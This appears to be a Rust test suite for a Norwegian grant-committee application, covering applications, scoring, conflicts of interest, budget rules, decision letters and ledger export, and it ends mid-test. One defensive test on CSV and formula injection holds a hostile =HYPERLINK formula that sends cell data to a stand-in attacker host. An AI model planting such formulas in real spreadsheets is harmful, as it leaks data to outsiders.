//! Grant tests against an in-memory store: a year's flow from intake to final
//! report, every refusal the committee can meet (with nothing written), the
//! budget under random orders of operations, and the letter, the ledger and
//! the minutes read back from their files.

use chrono::{NaiveDate, TimeZone, Utc};
use proptest::prelude::*;

use super::meeting_tests::{assert_contains_all, document_text, item, pdf_text};
pub(super) use super::test_fixtures::day;
use super::test_fixtures::{meeting_input, member_input, row_count, stavern, write_in_nynorsk};
use super::*;

pub(super) fn at(month: u32, d: u32) -> Actor {
    Actor::new("Kari Sekretær", Utc.with_ymd_and_hms(2026, month, d, 12, 0, 0).unwrap())
}

pub(super) fn actor() -> Actor {
    at(4, 20)
}

pub(super) struct World {
    pub(super) store: Store,
    pub(super) council: Council,
    /// Aud (leder), Bjørn, Cecilie (represents Stavern IL), Dag.
    pub(super) members: Vec<Membership>,
    pub(super) scheme: GrantScheme,
    /// A vedtak item of a meeting whose minutes are open.
    pub(super) item: String,
}

pub(super) fn scheme_input(council_id: &str) -> SchemeInput {
    SchemeInput {
        council_id: council_id.into(),
        year: 2026,
        name: "Grendemidler 2026".into(),
        budget: "400 000".into(),
        deadline: day(2026, 3, 1),
        report_deadline: day(2026, 12, 1),
        max_per_application: "100 000".into(),
        criteria: vec![
            CriterionInput {
                name: "Mange deltakere".into(),
                weight: 3,
            },
            CriterionInput {
                name: "Barn og unge".into(),
                weight: 2,
            },
            CriterionInput {
                name: "Egeninnsats/dugnad".into(),
                weight: 1,
            },
        ],
        enkeltvedtak: true,
        appeal_body: "Kommunens klagenemnd".into(),
        appeal_address: "Grendeutvalget, Postboks 12, 3291 Stavern".into(),
        conditions: "Kommunens logo skal brukes på plakater for tiltaket.".into(),
    }
}

/// The four seats of a grant council, all from 1 January 2026: Aud Leder
/// (leder), Bjørn Berg (Stavern skole FAU), Cecilie Ask (nestleder, Stavern
/// IL) and Dag Dahl.
pub(super) fn committee(store: &mut Store, actor: &Actor, council_id: &str) -> Vec<Membership> {
    [
        ("Aud Leder", SeatCategory::SENIOR, Role::Leder, ""),
        ("Bjørn Berg", SeatCategory::SCHOOL, Role::Medlem, "Stavern skole FAU"),
        ("Cecilie Ask", SeatCategory::SPORTS, Role::Nestleder, "Stavern IL"),
        ("Dag Dahl", SeatCategory::BUSINESS, Role::Medlem, ""),
    ]
    .into_iter()
    .map(|(name, category, role, organisation)| {
        let input = MembershipInput {
            organisation: organisation.into(),
            ..member_input(council_id, name, category, role, day(2026, 1, 1))
        };
        store.add_membership(actor, &input).unwrap()
    })
    .collect()
}

/// The meeting of 16 April 2026, its notice sent, with the grant round (a
/// vedtak item with `proposal`) on its agenda: the meeting's id and the item's.
pub(super) fn grant_round(store: &mut Store, actor: &Actor, council_id: &str, proposal: &str) -> (String, String) {
    let meeting = store
        .create_meeting(actor, &meeting_input(council_id, day(2026, 4, 16)))
        .unwrap();
    let input = AgendaItemInput {
        proposal: proposal.into(),
        ..item(ItemKind::Vedtak, "Tildeling av grendemidler 2026")
    };
    let item = store.add_item(actor, &meeting.id, &input).unwrap();
    store.send_notice(actor, &meeting.id).unwrap();
    (meeting.id, item)
}

pub(super) fn world() -> World {
    let (mut store, council) = stavern(&actor(), LegalMode::Voluntary, 0);
    let members = committee(&mut store, &actor(), &council.id);
    let scheme = store.create_scheme(&actor(), &scheme_input(&council.id)).unwrap();
    let (_, item) = grant_round(&mut store, &actor(), &council.id, "");
    World {
        store,
        council,
        members,
        scheme,
        item,
    }
}

impl World {
    /// The scheme's reminders of reports overdue on `today`.
    fn reminders(&self, today: NaiveDate) -> Vec<ReportReminder> {
        self.store.scheme_detail(&self.scheme.id, today).unwrap().reminders
    }

    /// Member number `member` scores the application `id` with `values`, one a criterion.
    pub(super) fn score(&mut self, id: &str, member: usize, values: [i32; 3]) -> Result<Application> {
        let scores = scores(&self.scheme, values);
        self.store.save_scores(&actor(), id, &self.members[member].id, &scores)
    }

    /// Decides the application `id` under the world's item, granting `granted`.
    pub(super) fn decide(&mut self, id: &str, granted: &str) -> Result<Application> {
        self.store
            .decide_application(&actor(), id, &decision(granted, &self.item))
    }
}

pub(super) fn application_input(scheme_id: &str, organisation: &str, asked: &str) -> ApplicationInput {
    ApplicationInput {
        scheme_id: scheme_id.into(),
        organisation: organisation.into(),
        org_number: String::new(),
        contact_name: "Siri Søker".into(),
        email: "siri@lag.example".into(),
        phone: "900 00 000".into(),
        title: format!("Prosjekt for {organisation}"),
        description: "Dugnad og utstyr.".into(),
        amount_asked: asked.into(),
        project_budget: "250 000".into(),
        received: day(2026, 2, 20),
    }
}

pub(super) fn apply(w: &mut World, organisation: &str, asked: &str) -> Application {
    w.store
        .add_application(&actor(), &application_input(&w.scheme.id, organisation, asked))
        .unwrap()
}

/// An application from an organisation with the (valid) org number 974760673.
fn apply_registered(w: &mut World, organisation: &str, asked: &str) -> Application {
    let input = ApplicationInput {
        org_number: "974760673".into(),
        ..application_input(&w.scheme.id, organisation, asked)
    };
    w.store.add_application(&actor(), &input).unwrap()
}

pub(super) fn decision(granted: &str, item: &str) -> DecisionInput {
    DecisionInput {
        granted: granted.into(),
        reasons: "Tiltaket når mange barn og unge.".into(),
        item_id: item.into(),
    }
}

pub(super) fn scores(scheme: &GrantScheme, values: [i32; 3]) -> Vec<ScoreInput> {
    scheme
        .criteria
        .iter()
        .zip(values)
        .map(|(c, score)| ScoreInput {
            criterion_id: c.id.clone(),
            score: Some(score),
            comment: String::new(),
        })
        .collect()
}

/// Field messages of a refused write, in bokmål.
fn refused(result: Result<Application>) -> String {
    let err = result.expect_err("the write is refused");
    err.report(Lang::Nb)
        .fields
        .iter()
        .map(|f| f.message.clone())
        .collect::<Vec<_>>()
        .join(" | ")
        + &err.message(Lang::Nb)
}

#[test]
fn a_year_from_intake_to_final_report() {
    let mut w = world();
    let a = apply(&mut w, "Stavern IL", "80 000");
    assert_eq!(a.number, 1);
    assert_eq!(a.amount_asked_ore, 8_000_000);
    assert_eq!(a.status, ApplicationStatus::Received);
    assert!(!a.late);

    // Cecilie represents Stavern IL on the council: inhabil by organisation.
    let view = w.store.scheme_detail(&w.scheme.id, day(2026, 4, 1)).unwrap();
    let row = &view.rows[0];
    assert_eq!(row.inhabil.len(), 1);
    assert_eq!(row.inhabil[0].person_name, "Cecilie Ask");
    assert_eq!(row.inhabil[0].source, InhabilSource::Organisation);
    let message = refused(w.score(&a.id, 2, [5, 5, 5]));
    assert!(message.contains("Cecilie Ask er inhabil"), "{message}");

    // Two members score; the weighted score uses the weights 3, 2, 1.
    let a1 = w.score(&a.id, 0, [5, 4, 3]).unwrap();
    assert_eq!(a1.status, ApplicationStatus::InReview);
    w.score(&a.id, 1, [3, 3, 3]).unwrap();
    let detail = w.store.application_detail(&a.id, day(2026, 4, 1)).unwrap();
    let expected = ((5.0 * 3.0 + 4.0 * 2.0 + 3.0) / 6.0 + 3.0) / 2.0;
    assert!((detail.weighted_score.unwrap() - expected).abs() < 1e-9);
    assert_eq!(detail.decision_items.len(), 1);

    // The decision: partly granted, tied to the vedtak item.
    w.store.propose_amount(&actor(), &a.id, "60 000").unwrap();
    let decided = w.decide(&a.id, "60 000").unwrap();
    assert_eq!(decided.status, ApplicationStatus::PartlyGranted);
    let d = decided.decision.as_ref().unwrap();
    assert_eq!(d.granted_ore, 6_000_000);
    assert_eq!(d.case_number.map(|c| c.short()).as_deref(), Some("01/26"));
    let budget = w.store.scheme_detail(&w.scheme.id, day(2026, 4, 20)).unwrap().budget;
    assert_eq!((budget.granted_ore, budget.left_ore), (6_000_000, 34_000_000));

    // The minutes of the meeting list the grant under the item.
    let meeting = w.store.meeting_detail(&d.meeting_id, Lang::Nb).unwrap();
    assert_eq!(meeting.items[0].grants[0].granted_ore, 6_000_000);

    // Letter sent: only an amendment changes the grant now.
    w.store.mark_letter_sent(&actor(), &a.id).unwrap();
    let message = refused(w.decide(&a.id, "70 000"));
    assert!(message.contains("Vedtaksbrevet er sendt"), "{message}");
    // A sent enkeltvedtak changes only by a new decision in a meeting: both
    // faults of the form at once, then the change tied to its vedtak item.
    let mut change = GrantAmendmentInput {
        granted: "50 000".into(),
        reason: String::new(),
        item_id: String::new(),
    };
    let refused = w.store.amend_grant(&actor(), &a.id, &change).unwrap_err();
    let report = refused.report(Lang::Nb);
    let fields: Vec<&str> = report.fields.iter().map(|f| f.field.as_str()).collect();
    assert_eq!(fields, ["reason", "itemId"], "{report:?}");
    change.reason = "Prosjektet ble mindre enn planlagt.".into();
    change.item_id = w.item.clone();
    let amended = w.store.amend_grant(&actor(), &a.id, &change).unwrap();
    assert_eq!(amended.amendments.len(), 1);
    assert!(
        amended.amendments[0].case_number.is_some(),
        "the deciding item's number"
    );
    assert_eq!(amended.decision.unwrap().granted_ore, 5_000_000);

    // Two payouts make it paid; the report makes it reported.
    let pay = |amount: &str| PayoutInput {
        date: day(2026, 5, 2),
        amount: amount.into(),
    };
    let half = w.store.add_payout(&actor(), &a.id, &pay("25 000")).unwrap();
    assert_eq!(half.status, ApplicationStatus::PartlyGranted);
    assert_eq!(half.paid_ore, 2_500_000);
    let paid = w.store.add_payout(&actor(), &a.id, &pay("25 000")).unwrap();
    assert_eq!(paid.status, ApplicationStatus::Paid);

    // Overdue reports are reminded after the deadline, not before.
    let overdue = w.reminders(day(2026, 12, 11));
    assert_eq!(overdue.len(), 1);
    assert_eq!(overdue[0].days_overdue, 10);
    assert!(w.reminders(day(2026, 12, 1)).is_empty());
    let reported = w
        .store
        .record_report(
            &actor(),
            &a.id,
            &ReportInput {
                received: day(2026, 11, 20),
                summary: "Lysløypa er ferdig.".into(),
                accepted: true,
            },
        )
        .unwrap();
    assert_eq!(reported.status, ApplicationStatus::Reported);
    assert!(w.reminders(day(2026, 12, 11)).is_empty());

    // Every status change is in the audit log.
    let statuses: Vec<String> = w
        .store
        .audit_log(Some(&a.id))
        .unwrap()
        .into_iter()
        .filter(|e| e.field == "status")
        .filter_map(|e| e.new)
        .collect();
    assert_eq!(
        statuses,
        ["received", "in_review", "partly_granted", "paid", "reported"]
    );
}

#[test]
fn a_late_application_is_flagged_and_still_recorded() {
    let mut w = world();
    let mut input = application_input(&w.scheme.id, "Sent ute velforening", "10 000");
    input.received = day(2026, 3, 2);
    let a = w.store.add_application(&actor(), &input).unwrap();
    assert!(a.late);
    assert_eq!(a.status, ApplicationStatus::Received);
}

#[test]
fn bad_input_gets_a_clear_message_and_changes_nothing() {
    let mut w = world();
    let before = row_count(&w.store, "grant_application");
    let cases: [(&str, &str, &str, &str); 7] = [
        ("orgNumber", "974760674", "80 000", "kontrollsiffer"),
        ("amountAsked", "", "-5", "negativt"),
        ("amountAsked", "", "0", "større enn 0"),
        ("amountAsked", "", "100 000 001", "kr 100 000 000"),
        ("amountAsked", "", "12.500,5", "12\u{a0}500,50"),
        ("amountAsked", "", "abc", "12\u{a0}500,50"),
        ("amountAsked", "", "300 000", "totale budsjett (kr 250 000,00)"),
    ];
    for (field, orgnr, asked, expected) in cases {
        let mut input = application_input(&w.scheme.id, "Stavern IL", asked);
        input.org_number = orgnr.into();
        let report = w.store.add_application(&actor(), &input).unwrap_err().report(Lang::Nb);
        let message = report
            .fields
            .iter()
            .find(|f| f.field == field)
            .map(|f| f.message.clone())
            .unwrap_or_else(|| panic!("{field} refused for {asked}: {report:?}"));
        assert!(message.contains(expected), "{asked}: {message}");
    }
    assert_eq!(row_count(&w.store, "grant_application"), before);

    // A valid organisation number, written with spaces, is kept as nine digits.
    let mut input = application_input(&w.scheme.id, "Stavern IL", "12 500,50");
    input.org_number = "974 760 673".into();
    let a = w.store.add_application(&actor(), &input).unwrap();
    assert_eq!(a.org_number.as_deref(), Some("974760673"));
    assert_eq!(a.amount_asked_ore, 1_250_050);
}

#[test]
fn the_money_rules_name_their_figures_and_write_nothing() {
    let mut w = world();
    let a = apply(&mut w, "Stavern skole FAU", "80 000");
    let b = apply(&mut w, "Stavern seniorforening", "100 000");
    let c = apply(&mut w, "Stavern båtforening", "100 000");
    let d = apply(&mut w, "Stavern vel", "100 000");
    let e = apply(&mut w, "Stavern korps", "100 000");

    let message = refused(w.decide(&a.id, "90 000"));
    assert!(
        message.contains("kr 90 000") && message.contains("kr 80 000"),
        "{message}"
    );

    for id in [&b.id, &c.id, &d.id] {
        w.decide(id, "100 000").unwrap();
    }
    // 300 000 of 400 000 granted: 100 000 left, 80 000 fits, then 30 000 does not.
    w.decide(&a.id, "80 000").unwrap();
    let audit_before = w.store.audit_log(None).unwrap().len();
    let message = refused(w.decide(&e.id, "30 000"));
    for figure in ["kr 30 000", "kr 380 000", "kr 400 000", "kr 20 000", "kr 10 000"] {
        assert!(message.contains(figure), "{figure} in {message}");
    }
    assert!(w.store.application(&e.id).unwrap().decision.is_none());
    assert_eq!(w.store.audit_log(None).unwrap().len(), audit_before);

    // The budget cannot be lowered below what is granted.
    let mut lower = scheme_input(&w.council.id);
    lower.budget = "300 000".into();
    let message = w
        .store
        .update_scheme(&actor(), &w.scheme.id, &lower)
        .unwrap_err()
        .report(Lang::Nb);
    assert!(message.fields[0].message.contains("kr 380 000"), "{message:?}");

    // Paying more than granted.
    let pay = PayoutInput {
        date: day(2026, 5, 1),
        amount: "80 000,01".into(),
    };
    let message = refused(w.store.add_payout(&actor(), &a.id, &pay));
    assert!(
        message.contains("kr 80 000,01") && message.contains("kr 80 000"),
        "{message}"
    );
    assert_eq!(row_count(&w.store, "grant_payout"), 0);

    // Reasons are required for an enkeltvedtak.
    let mut no_reasons = decision("10 000", &w.item);
    no_reasons.reasons = String::new();
    let message = refused(w.store.decide_application(&actor(), &e.id, &no_reasons));
    assert!(message.contains("forvaltningsloven § 24"), "{message}");

    // Scores outside 1–5.
    let message = refused(w.score(&e.id, 0, [6, 0, 3]));
    assert!(message.contains("fra 1 til 5"), "{message}");
    assert_eq!(row_count(&w.store, "grant_score"), 0);

    // An item that is not a vedtak cannot carry a decision.
    let meeting = w
        .store
        .meeting(&w.store.application(&a.id).unwrap().decision.unwrap().meeting_id);
    let orientering = w
        .store
        .add_item(
            &actor(),
            &meeting.unwrap().id,
            &item(ItemKind::Orientering, "Orientering"),
        )
        .unwrap();
    let message = refused(
        w.store
            .decide_application(&actor(), &e.id, &decision("10 000", &orientering)),
    );
    assert!(message.contains("av typen vedtak"), "{message}");
}

#[test]
fn the_schema_itself_refuses_a_grant_over_the_budget() {
    let mut w = world();
    let a = apply(&mut w, "Stavern vel", "100 000");
    w.decide(&a.id, "100 000").unwrap();
    let result = w.store.conn.execute(
        "UPDATE grant_scheme SET budget_ore = 1000 WHERE id = ?1",
        [&w.scheme.id],
    );
    assert!(result.unwrap_err().to_string().contains("grant_budget_exceeded"));
}

#[test]
fn a_declared_inhabil_member_loses_their_scores_and_cannot_score() {
    let mut w = world();
    let a = apply(&mut w, "Stavern vel", "10 000");
    w.score(&a.id, 3, [4, 4, 4]).unwrap();
    w.store
        .declare_inhabil(&actor(), &a.id, &w.members[3].id, "Gift med styrelederen")
        .unwrap();
    let detail = w.store.application_detail(&a.id, day(2026, 4, 1)).unwrap();
    let dag = detail
        .reviews
        .iter()
        .find(|r| r.membership_id == w.members[3].id)
        .unwrap();
    assert_eq!(dag.inhabil.as_ref().unwrap().reason, "Gift med styrelederen");
    assert!(dag.scores.is_empty());
    assert!(w.score(&a.id, 3, [4, 4, 4]).is_err());
    w.store.clear_inhabil(&actor(), &a.id, &w.members[3].id).unwrap();
    w.score(&a.id, 3, [4, 4, 4]).unwrap();
}

#[test]
fn criteria_are_locked_once_scoring_has_started() {
    let mut w = world();
    let a = apply(&mut w, "Stavern vel", "10 000");
    let mut changed = scheme_input(&w.council.id);
    changed.criteria[0].weight = 5;
    w.store.update_scheme(&actor(), &w.scheme.id, &changed).unwrap();
    let scheme = w.store.scheme(&w.scheme.id).unwrap();
    w.store
        .save_scores(&actor(), &a.id, &w.members[0].id, &scores(&scheme, [4, 4, 4]))
        .unwrap();
    changed.criteria[0].weight = 1;
    let err = w.store.update_scheme(&actor(), &w.scheme.id, &changed).unwrap_err();
    assert_eq!(err.code(), "conflict");
}

#[test]
fn a_scheme_moved_to_another_year_takes_its_applications_with_it_in_search() {
    let mut w = world();
    let a = apply(&mut w, "Stavern IL", "80 000");
    let in_year = |year: i32| SearchQuery {
        text: "Stavern IL".into(),
        council_id: Some(w.council.id.clone()),
        year: Some(year),
    };
    let found = |store: &Store, year: i32| -> Vec<String> {
        let hits = store.search(&in_year(year), Lang::Nb).unwrap().hits;
        hits.into_iter().map(|h| h.id).collect()
    };
    assert_eq!(found(&w.store, 2026), vec![a.id.clone()]);
    let moved = SchemeInput {
        year: 2027,
        ..scheme_input(&w.council.id)
    };
    w.store.update_scheme(&actor(), &w.scheme.id, &moved).unwrap();
    assert!(found(&w.store, 2026).is_empty(), "no longer in 2026");
    assert_eq!(found(&w.store, 2027), vec![a.id]);
}

#[test]
fn withdrawn_and_decided_applications_are_not_edited() {
    let mut w = world();
    let a = apply(&mut w, "Stavern vel", "10 000");
    let b = apply(&mut w, "Stavern korps", "10 000");
    let withdrawn = w.store.withdraw_application(&actor(), &a.id).unwrap();
    assert_eq!(withdrawn.status, ApplicationStatus::Withdrawn);
    assert!(w.decide(&a.id, "10 000").is_err());
    let refused_grant = w.decide(&b.id, "0").unwrap();
    assert_eq!(refused_grant.status, ApplicationStatus::Refused);
    let edit = application_input(&w.scheme.id, "Stavern korps", "20 000");
    assert_eq!(
        w.store.update_application(&actor(), &b.id, &edit).unwrap_err().code(),
        "conflict"
    );
    assert!(w.store.withdraw_application(&actor(), &b.id).is_err());
    assert!(w
        .store
        .add_payout(
            &actor(),
            &b.id,
            &PayoutInput {
                date: day(2026, 5, 1),
                amount: "1".into()
            }
        )
        .is_err());
}

#[test]
fn the_letter_says_what_was_decided_in_the_councils_malform() {
    let mut w = world();
    let a = apply_registered(&mut w, "Stavern IL", "80 000");
    w.decide(&a.id, "60 000").unwrap();
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("brev.pdf");
    let record = w.store.export_letter(&at(4, 21), &a.id, &out).unwrap();
    let bytes = std::fs::read(&out).unwrap();
    assert_eq!(record.sha256, crate::pdf::sha256_hex(&bytes));
    let text = pdf_text(&bytes);
    assert_contains_all(
        &text,
        &[
            "Tilsagn om tilskudd – Prosjekt for Stavern IL",
            "Org.nr. 974760673",
            "v/ Siri Søker",
            "Sak 01/26",
            "16.04.2026",
            "delvis innvilget",
            "kr 60 000",
            "kr 80 000",
            "Tiltaket når mange barn og unge.",
            "Kommunens logo",
            "01.12.2026",
            "Klagerett",
            "tre uker",
            "Kommunens klagenemnd",
            "Postboks 12",
            "rett til å se dokumentene",
            "Aud Leder, leder",
            &record.content_sha256[..12],
        ],
    );
    assert_eq!(
        w.store.letter_file_name(&a.id).unwrap(),
        "Tilsagn Stavern IL 2026-1.pdf"
    );
    let detail = w.store.application_detail(&a.id, day(2026, 4, 21)).unwrap();
    assert_eq!(detail.letters.len(), 1);

    // A refusal is an avslagsbrev, without conditions.
    let b = apply(&mut w, "Stavern vel", "10 000");
    w.decide(&b.id, "0").unwrap();
    let text = pdf_text(&w.store.render_letter(&b.id, actor().at).unwrap().bytes);
    assert!(text.contains("Søknaden er avslått."), "{text}");
    assert!(!text.contains("Vilkår"), "{text}");
}

/// Changing a sent enkeltvedtak takes a new decision in a meeting, and the
/// letter made after it is the amended decision, under its own name.
#[test]
fn a_changed_enkeltvedtak_gets_a_new_letter_naming_the_new_decision() {
    let mut w = world();
    let a = apply(&mut w, "Stavern IL", "80 000");
    w.decide(&a.id, "60 000").unwrap();
    w.store.mark_letter_sent(&actor(), &a.id).unwrap();
    let change = GrantAmendmentInput {
        granted: "40 000".into(),
        reason: "Prosjektet ble mindre enn planlagt.".into(),
        item_id: w.item.clone(),
    };
    w.store.amend_grant(&actor(), &a.id, &change).unwrap();
    let text = pdf_text(&w.store.render_letter(&a.id, actor().at).unwrap().bytes);
    assert_contains_all(
        &text,
        &[
            "Endret vedtak om tilskudd – Prosjekt for Stavern IL",
            "Vedtak i Sak 01/26",
            "fra kr 60 000,00 til kr",
            "Prosjektet ble mindre enn planlagt.",
            "Klagerett",
        ],
    );
    assert_eq!(
        w.store.letter_file_name(&a.id).unwrap(),
        "Endret vedtak Stavern IL 2026-1.pdf"
    );
}

#[test]
fn the_letter_is_in_nynorsk_for_a_nynorsk_council() {
    let mut w = world();
    write_in_nynorsk(&mut w.store, &actor(), &w.council);
    let a = apply(&mut w, "Stavern IL", "80 000");
    w.decide(&a.id, "80 000").unwrap();
    let text = pdf_text(&w.store.render_letter(&a.id, actor().at).unwrap().bytes);
    assert!(text.contains("Tilsegn om tilskot"), "{text}");
    assert!(text.contains("forvaltningslova"), "{text}");
    assert_eq!(
        w.store.letter_file_name(&a.id).unwrap(),
        "Tilsegn Stavern IL 2026-1.pdf",
        "the file is named in the letter's language"
    );
}

/// The scheme's ledger written as CSV into `dir`: how many applications it
/// holds, and its lines (after the byte order mark).
fn ledger_csv(w: &World, dir: &Path) -> (usize, Vec<String>) {
    let path = dir.join("regnskap.csv");
    let written = w
        .store
        .export_ledger(&w.scheme.id, LedgerFormat::Csv, &path, Lang::Nb)
        .unwrap();
    let csv = std::fs::read_to_string(&path).unwrap();
    let lines = csv.trim_start_matches('\u{feff}').lines().map(str::to_owned).collect();
    (written, lines)
}

/// The scheme's ledger written as XLSX into `dir`, opened.
fn ledger_book(w: &World, dir: &Path) -> calamine::Xlsx<std::io::BufReader<std::fs::File>> {
    let path = dir.join("regnskap.xlsx");
    w.store
        .export_ledger(&w.scheme.id, LedgerFormat::Xlsx, &path, Lang::Nb)
        .unwrap();
    calamine::open_workbook(&path).unwrap()
}

#[test]
fn the_ledger_reads_back_as_written() {
    let mut w = world();
    let a = apply_registered(&mut w, "Stavern; IL \"Lyn\"", "80 000");
    let b = apply(&mut w, "Stavern vel", "12 500,50");
    w.decide(&a.id, "60 000").unwrap();
    w.store
        .add_payout(
            &actor(),
            &a.id,
            &PayoutInput {
                date: day(2026, 5, 1),
                amount: "30 000".into(),
            },
        )
        .unwrap();
    let dir = tempfile::tempdir().unwrap();

    // The year once in the offered name, whether or not the scheme's name holds it.
    assert_eq!(
        w.store
            .ledger_file_name(&w.scheme.id, LedgerFormat::Xlsx, Lang::Nb)
            .unwrap(),
        "Regnskap Grendemidler 2026.xlsx"
    );
    let mut renamed = w.scheme.clone();
    renamed.name = "Kulturmidler".into();
    assert_eq!(
        crate::ledger::file_name(&renamed, LedgerFormat::Csv, Lang::Nb),
        "Regnskap Kulturmidler 2026.csv"
    );
    let (written, lines) = ledger_csv(&w, dir.path());
    assert_eq!(written, 2);
    assert_eq!(
        lines[0],
        "Nr.;Søker;Org.nr.;Prosjekt;Status;Omsøkt (kr);Innvilget (kr);Utbetalt (kr);Rapport mottatt;Vedtak"
    );
    assert!(
        lines[1].starts_with("1;\"Stavern; IL \"\"Lyn\"\"\";974760673;"),
        "{}",
        lines[1]
    );
    assert!(
        lines[1].ends_with(";Delvis innvilget;80000,00;60000,00;30000,00;;Sak 01/26"),
        "{}",
        lines[1]
    );
    assert!(lines[2].contains(";Mottatt;12500,50;0,00;0,00;;"), "{}", lines[2]);
    assert_eq!(lines[3], ";Sum Grendemidler 2026;;;;92500,50;60000,00;30000,00;;");

    use calamine::{Data, Reader};
    let mut book = ledger_book(&w, dir.path());
    let sheet = book.worksheet_range("Grendemidler 2026").unwrap();
    assert_eq!(sheet.get_value((0, 1)), Some(&Data::String("Søker".into())));
    assert_eq!(sheet.get_value((1, 2)), Some(&Data::String("974760673".into())));
    assert_eq!(sheet.get_value((1, 6)), Some(&Data::Float(60000.0)));
    assert_eq!(sheet.get_value((2, 5)), Some(&Data::Float(12500.5)));
    assert_eq!(sheet.get_value((3, 7)), Some(&Data::Float(30000.0)));
    let _ = b;
}

/// An applicant named like a formula is text in both files: in the CSV its
/// cell starts with an apostrophe, in the XLSX it is a string with the
/// apostrophe too, and the amounts stay numbers (OWASP, CSV injection).
#[test]
fn a_ledger_cell_that_looks_like_a_formula_is_written_as_text() {
    let mut w = world();
    let hostile = "=HYPERLINK(\"http://angriper.example/?\"&A1,\"Klikk her\")";
    let mut input = application_input(&w.scheme.id, hostile, "10 000");
    input.title = "+47 og -2 og @SUM(A1:A9)".into();
    w.store.add_application(&actor(), &input).unwrap();
    let dir = tempfile::tempdir().unwrap();

    let row = ledger_csv(&w, dir.path()).1[1].clone();
    let cells: Vec<&str> = row.split(';').collect();
    assert!(cells[1].starts_with("\"'=HYPERLINK("), "the applicant: {row}");
    assert!(cells.iter().any(|c| c.starts_with("'+47 og -2")), "the project: {row}");
    assert!(
        cells
            .iter()
            .all(|c| !c.trim_start_matches('"').starts_with(['=', '+', '-', '@'])),
        "no cell starts a formula: {row}"
    );

    use calamine::{Data, Reader};
    let mut book = ledger_book(&w, dir.path());
    let sheet = book.worksheet_range("Grendemidler 2026").unwrap();
    assert_eq!(sheet.get_value((1, 1)), Some(&Data::String(format!("'{hostile}"))));
    assert_eq!(
        sheet.get_value((1, 3)),
        Some(&Data::String("'+47 og -2 og @SUM(A1:A9)".into()))
    );
    assert_eq!(
        sheet.get_value((1, 5)),
        Some(&Data::Float(10000.0)),
        "the amount is a number"
    );
    let formulas = book.worksheet_formula("Grendemidler 2026").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "the sheet holds no formula"
    );
}

#[test]
fn the_minutes_list_the_grants_decided_under_an_item() {
    let mut w = world();
    let a = apply(&mut w, "Stavern IL", "80 000");
    let decided = w.decide(&a.id, "60 000").unwrap();
    let meeting_id = decided.decision.unwrap().meeting_id;
    let text = document_text(&w.store, &meeting_id, DocumentKind::Minutes, actor().at);
    assert!(text.contains("Tilskudd"), "{text}");
    assert!(text.contains("Prosjekt for Stavern IL"), "{text}");
    assert!(text.contains("kr 60 000"), "{text}");
}

/// One step of a committee's work, in any order.
#[derive(Debug, Clone)]
enum Op {
    Decide(usize, i64),
    Amend(usize, i64),
    SendLetter(usize),
    Pay(usize, i64),
    Withdraw(usize),
    Budget(i64),
}

fn op() -> impl Strategy<Value = Op> {
    let app = 0usize..4;
    let amount = 0i64..=150_000;
    prop_oneof![
        (app.clone(), amount.clone()).prop_map(|(a, kr)| Op::Decide(a, kr)),
        (app.clone(), amount.clone()).prop_map(|(a, kr)| Op::Amend(a, kr)),
        app.clone().prop_map(Op::SendLetter),
        (app.clone(), 1i64..=100_000).prop_map(|(a, kr)| Op::Pay(a, kr)),
        app.prop_map(Op::Withdraw),
        (100_000i64..=400_000).prop_map(Op::Budget),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// Whatever the committee does, in whatever order: the sum granted never
    /// exceeds the budget, and no application is paid more than granted.
    #[test]
    fn the_budget_is_never_exceeded_in_any_order(steps in prop::collection::vec(op(), 1..30)) {
        let mut w = world();
        let apps: Vec<Application> = ["A", "B", "C", "D"]
            .iter()
            .map(|name| apply(&mut w, &format!("Lag {name}"), "150 000"))
            .collect();
        for op in steps {
            let kr = |k: i64| money_text(k * 100);
            let _ = match op {
                Op::Decide(i, k) => w.decide(&apps[i].id, &kr(k)),
                Op::Amend(i, k) => w.store.amend_grant(
                    &actor(),
                    &apps[i].id,
                    &GrantAmendmentInput {
                        granted: kr(k),
                        reason: "Endret".into(),
                        item_id: w.item.clone(),
                    },
                ),
                Op::SendLetter(i) => w.store.mark_letter_sent(&actor(), &apps[i].id),
                Op::Pay(i, k) => w.store.add_payout(
                    &actor(),
                    &apps[i].id,
                    &PayoutInput { date: day(2026, 5, 1), amount: kr(k) },
                ),
                Op::Withdraw(i) => w.store.withdraw_application(&actor(), &apps[i].id),
                Op::Budget(k) => {
                    let mut input = scheme_input(&w.council.id);
                    input.budget = kr(k);
                    input.max_per_application = String::new();
                    w.store.update_scheme(&actor(), &w.scheme.id, &input).map(|_| apps[0].clone())
                }
            };
            let detail = w.store.scheme_detail(&w.scheme.id, day(2026, 5, 1)).unwrap();
            let granted: i64 = detail.rows.iter().filter_map(|r| r.application.decision.as_ref()).map(|d| d.granted_ore).sum();
            prop_assert_eq!(granted, detail.budget.granted_ore);
            prop_assert!(granted <= detail.scheme.budget_ore, "{} > {}", granted, detail.scheme.budget_ore);
            for row in &detail.rows {
                let a = &row.application;
                let g = a.decision.as_ref().map_or(0, |d| d.granted_ore);
                prop_assert!(a.paid_ore <= g, "paid {} of {}", a.paid_ore, g);
                prop_assert!(g <= a.amount_asked_ore);
            }
        }
    }
}

fn money_text(ore: i64) -> String {
    crate::rules::money::format(ore)
}

#[test]
fn a_decision_names_who_has_not_scored_and_its_item_by_title() {
    let mut w = world();
    // Bjørn Berg represents the applicant: inhabil, so never missing.
    let a = apply(&mut w, "Stavern skole FAU", "10 000");
    w.score(&a.id, 0, [4, 4, 4]).unwrap();
    // Cecilie has scored one criterion of three: not done.
    let mut partial = scores(&w.scheme, [3, 3, 3]);
    partial[1].score = None;
    partial[2].score = None;
    w.store
        .save_scores(&actor(), &a.id, &w.members[2].id, &partial)
        .unwrap();
    let detail = w.store.application_detail(&a.id, day(2026, 4, 1)).unwrap();
    assert_eq!(detail.missing_scores, vec!["Cecilie Ask", "Dag Dahl"]);

    w.decide(&a.id, "8 000").unwrap();
    let detail = w.store.application_detail(&a.id, day(2026, 4, 20)).unwrap();
    let decided = detail.application.decision.unwrap();
    assert_eq!(decided.item_title, "Tildeling av grendemidler 2026");
    assert_eq!(decided.case_number.map(|c| c.short()).as_deref(), Some("01/26"));
}

#[test]
fn a_member_found_not_inhabil_scores_and_loses_the_scores_when_that_is_withdrawn() {
    let mut w = world();
    let a = apply(&mut w, "Stavern IL", "10 000");
    let cecilie = w.members[2].id.clone();
    let reason = "Støttemedlem, ingen rolle i laget";
